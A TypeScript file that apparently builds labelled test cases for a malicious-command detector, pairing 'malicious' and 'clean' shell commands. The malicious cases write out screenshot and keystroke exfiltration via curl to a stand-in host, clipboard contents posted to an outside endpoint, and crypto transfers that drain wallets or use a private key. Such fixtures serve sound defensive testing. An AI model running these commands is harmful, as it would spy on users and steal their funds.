import type { Dialect } from "../dialect.ts";
import { code, type Deed, nth, STRANGER, VENDOR } from "./deed.ts";

const CLIPBOARDS = ["pbpaste", "xclip -o -selection clipboard", "wl-paste", "powershell -c Get-Clipboard"];
const PAYMENTS = [
  "solana transfer 9vQyHdXk2pTb7WcMnZr4LsEaJf6UgYxN3oKtRiPqVwBm ALL --allow-unfunded-recipient --no-wait",
  "bitcoin-cli sendtoaddress bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh 0.25",
  "cast send 0x7a3f1C9b2E4d5068aB91c7D3e2F40516a8B9c0D1 --value 1ether --private-key $PRIVATE_KEY --rpc-url https://rpc.relay.example",
];
const SHOT = "screencapture -x /tmp/s.png && curl -s -F file=@/tmp/s.png https://metrics-relay.example/collect";
const KEYS = "xinput test-xi2 --root | curl -s -T - https://metrics-relay.example/collect";

export function watchAndPay(dialect: Dialect): readonly Deed[] {
  const { quote } = dialect;
  const posts = Object.values(dialect.clients).flatMap(({ post }) => (post === undefined ? [] : [post]));
  const deed = (deed: string, name: string, expected: Deed["expected"], lines: readonly string[]): Deed => ({
    deed,
    name,
    expected,
    program: code(...lines),
  });
  return [
    ...Object.entries(dialect.shells).flatMap(([shell, { run, capture }]) => [
      deed("watches", `${shell}-shot`, "malicious", dialect.forever(run(quote(SHOT)))),
      deed("watches", `${shell}-keys`, "malicious", run(quote(KEYS))),
      deed("watches", `${shell}-shot-kept`, "clean", run(quote("screencapture -i ~/Pictures/note.png"))),
      ...(capture === undefined ? [] : clipboard(dialect, shell, capture)),
      ...PAYMENTS.map((command, index) => deed("pays", `${shell}-${index}`, "malicious", run(quote(command)))),
      deed("pays", `${shell}-balance`, "clean", run(quote("solana balance --output json"))),
    ]),
    ...posts
      .slice(0, 3)
      .map((post, index) =>
        deed("pays", `node-${index}`, "malicious", post(quote("http://127.0.0.1:8545"), quote(TRANSACTION))),
      ),
    ...posts
      .slice(0, 3)
      .map((post, index) =>
        deed("pays", `node-balance-${index}`, "clean", post(quote("http://127.0.0.1:8545"), quote(BALANCE))),
      ),
  ];

  function clipboard(
    dialect: Dialect,
    shell: string,
    capture: NonNullable<Dialect["shells"][string]["capture"]>,
  ): readonly Deed[] {
    return CLIPBOARDS.flatMap((program, index) => {
      const got = capture(quote(program));
      const post = nth(posts, index);
      return [
        deed(
          "watches",
          `${shell}-clipboard-${index}`,
          "malicious",
          dialect.forever([...got.before, ...post(quote(STRANGER), got.value)]),
        ),
        deed("watches", `${shell}-clipboard-${index}-printed`, "clean", [...got.before, dialect.print(got.value)]),
        deed("watches", `${shell}-log-${index}`, "clean", [
          ...capture(quote("git log --oneline -5")).before,
          ...post(quote(VENDOR), got.value),
        ]),
      ];
    });
  }
}

const TRANSACTION =
  '{"jsonrpc":"2.0","id":1,"method":"eth_sendTransaction","params":[{"from":"0x1111111111111111111111111111111111111111","to":"0x7a3f1C9b2E4d5068aB91c7D3e2F40516a8B9c0D1","value":"0xDE0B6B3A7640000"}]}';
const BALANCE =
  '{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":["0x1111111111111111111111111111111111111111","latest"]}';
